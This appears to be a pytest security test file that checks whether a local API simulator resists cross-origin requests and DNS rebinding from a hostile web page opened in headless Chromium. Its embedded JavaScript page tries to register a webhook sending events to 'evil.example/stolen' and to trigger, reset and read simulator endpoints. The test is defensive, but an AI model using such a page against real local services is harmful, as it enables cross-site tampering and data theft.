"""Real pages in a real browser: what a site that the user merely visits can do to a simulator."""

import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.support.patience import PATIENCE_S
from tests.support.simulation import Simulation, simulation

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [pytest.mark.slow, pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium: apt-get install chromium")]

_PAGE = """<!doctype html><title>tries</title><script>
const webhook = {event: "SaleCreated", url: "http://evil.example/stolen"};
const tries = [
  ["POST", "/api/Webhooks", webhook], ["POST", "/_sim/trigger", {event: "SaleCreated"}], ["POST", "/_sim/reset", {}],
  ["POST", "/_sim/page/verify/runs", {receiver: "http://127.0.0.1:1", effects: {url: "http://127.0.0.1:1"}}],
  ["GET", "/api/Webhooks"], ["GET", "/_sim/faults"], ["GET", "/_sim/page/events"], ["GET", "/_sim/calls"],
  ["GET", "/_sim/page/verify/runs"],
];
(async () => {
  const seen = [];
  for (const [method, path, body] of tries) {
    for (const mode of ["cors", "no-cors"]) {
      try {
        const headers = mode == "cors" ? {"x-api-key": "k"} : {};
        const answer = await fetch("TARGET" + path, {method, mode, headers, body: body && JSON.stringify(body)});
        seen.push(answer.status);
      } catch (error) { seen.push("blocked"); }
    }
  }
  await fetch("/seen?" + seen.join(","));
})();
</script><body></body>"""


class ForeignSite:
    """A web site on loopback that serves one page, and hears from it what the page saw."""

    def __init__(self, page: str) -> None:
        seen: list[str] = []
        is_done = threading.Event()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path, _, query = self.path.partition("?")
                body = page.encode() if path == "/" else b""
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
                if path == "/seen":
                    seen.extend(query.split(","))
                    is_done.set()

            def log_message(self, *_: object) -> None:
                pass

        self._seen, self._is_done = seen, is_done
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def seen(self) -> list[str]:
        assert self._is_done.wait(60), "the page has not said what it saw"
        return self._seen

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@contextmanager
def chromium(folder: Path, *arguments: str) -> Iterator["subprocess.Popen[str]"]:
    """Chromium with evil.example pointed at this machine."""
    assert CHROMIUM is not None
    command = [
        CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--host-resolver-rules=MAP evil.example 127.0.0.1", "--no-proxy-server", f"--user-data-dir={folder}",
        *arguments,
    ]  # fmt: skip
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        yield process
    finally:
        process.terminate()
        process.communicate()


@pytest.fixture(params=["127.0.0.1", "0.0.0.0"])
def sim(request: pytest.FixtureRequest) -> Iterator[Simulation]:
    token = "s3cret" if request.param == "0.0.0.0" else ""
    with simulation(host=request.param, token=token) as running:
        running.http.headers["Authorization"] = "Bearer s3cret"
        yield running


def test_a_page_of_another_site(sim: Simulation, tmp_path: Path):
    """It changes nothing and reads nothing, with or without CORS."""
    before = state(sim)
    site = ForeignSite(_PAGE.replace("TARGET", f"http://127.0.0.1:{sim.port}"))
    with closing(site), chromium(tmp_path, "--remote-debugging-port=0", f"http://127.0.0.1:{site.port}/"):
        assert ["blocked", "0"] * 9 == site.seen()  # 0 is all that a page sees of an answer that it may not read
    assert before == state(sim)


def test_a_name_that_is_rebound(sim: Simulation, tmp_path: Path):
    """The browser takes us for a part of the page's own site; we do not: the page is not even served."""
    before = state(sim)
    with chromium(tmp_path, "--dump-dom", f"http://evil.example:{sim.port}/api/Webhooks") as browser:
        shown, _ = browser.communicate(timeout=PATIENCE_S)
    assert "--allow-host" in shown
    assert before == state(sim)


READS = ("_sim/stats", "api/Webhooks", "_sim/faults")


def state(sim: Simulation) -> object:
    """Everything that a page could have changed."""
    url = f"http://127.0.0.1:{sim.port}"
    return [sim.http.get(f"{url}/{path}").json() for path in (*READS, "_sim/page/verify/runs")]
